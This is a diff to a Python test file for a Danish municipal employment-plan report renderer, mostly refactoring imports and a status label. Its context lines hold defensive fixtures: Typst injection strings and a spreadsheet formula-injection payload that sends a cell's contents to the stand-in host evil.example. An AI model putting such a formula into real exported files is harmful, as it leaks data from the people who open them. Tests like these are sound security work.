@@ -15,7 +15,9 @@ from jobmaal.reports.model import GoalSection, LocalIndicatorRow, LocalValue, Ta
 from jobmaal.reports.plan_docx import render_plan_docx
 from jobmaal.reports.plan_pdf import render_plan_pdf
 from jobmaal.reports.plan_xlsx import render_plan_xlsx
+from jobmaal.web.followup.models import State
 
+from .demo_data import demo_plan_report
 from .pdftext import pdf_text
 
 
@@ -27,7 +29,7 @@ def test_plan_pdf_names_municipality_state_and_meeting(plan_report, plan_pdf_tex
     text = _flat(plan_pdf_text)
     assert "København" in text
     assert "Beskæftigelsesplan 2023" in text
-    assert "Godkendt" in text
+    assert State.APPROVED.label in text
     assert f"{plan_report.council_meeting_date.day}. " in text
     assert "Side 1 af" in text
 
@@ -64,8 +66,6 @@ def test_plan_pdf_prints_hostile_text_literally():
                               "not_assessable", "Kan ikke vurderes")
     goal = GoalSection(1, "Mål med #set page(height: 1cm)", "Fokus med $x$ og #import \"@preview/a:0.1.0\"",
                        "- [ikke indhold] <etiket> @ref", [], [local])
-    from jobmaal.reports.demo import demo_plan_report
-
     report = dataclasses.replace(demo_plan_report(101), goals=[goal], municipality_name="Kommune #2",
                                  council_meeting_date=date(2023, 3, 15), synthetic=False)
     text = _flat(pdf_text(render_plan_pdf(report)))
@@ -94,7 +94,7 @@ def test_plan_docx_has_headings_tables_and_charts(plan_report):
     cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
     assert "Udgangspunkt" in cells
     assert any(c.startswith("55,4 %") for c in cells)
-    assert "Godkendt" in cells
+    assert State.APPROVED.label in cells
     assert len(document.inline_shapes) == sum(len(g.targets) for g in plan_report.goals)
     assert "Syntetiske data – ikke rigtige tal" in document.paragraphs[0].text
 
@@ -124,8 +124,6 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
 
 def _hostile_report():
     """A plan whose texts hold a formula, control characters XML forbids and Typst line breaks."""
-    from jobmaal.reports.demo import demo_plan_report
-
     local = LocalIndicatorRow(1, EVIL, "Definition\x01 med\x0bstyretegn", "antal", "up", 3.0, "2023",
                               5.0, "2023", [LocalValue("2023", 4.0, "@kommentar\x1f")],
                               "not_assessable", "Kan ikke vurderes")
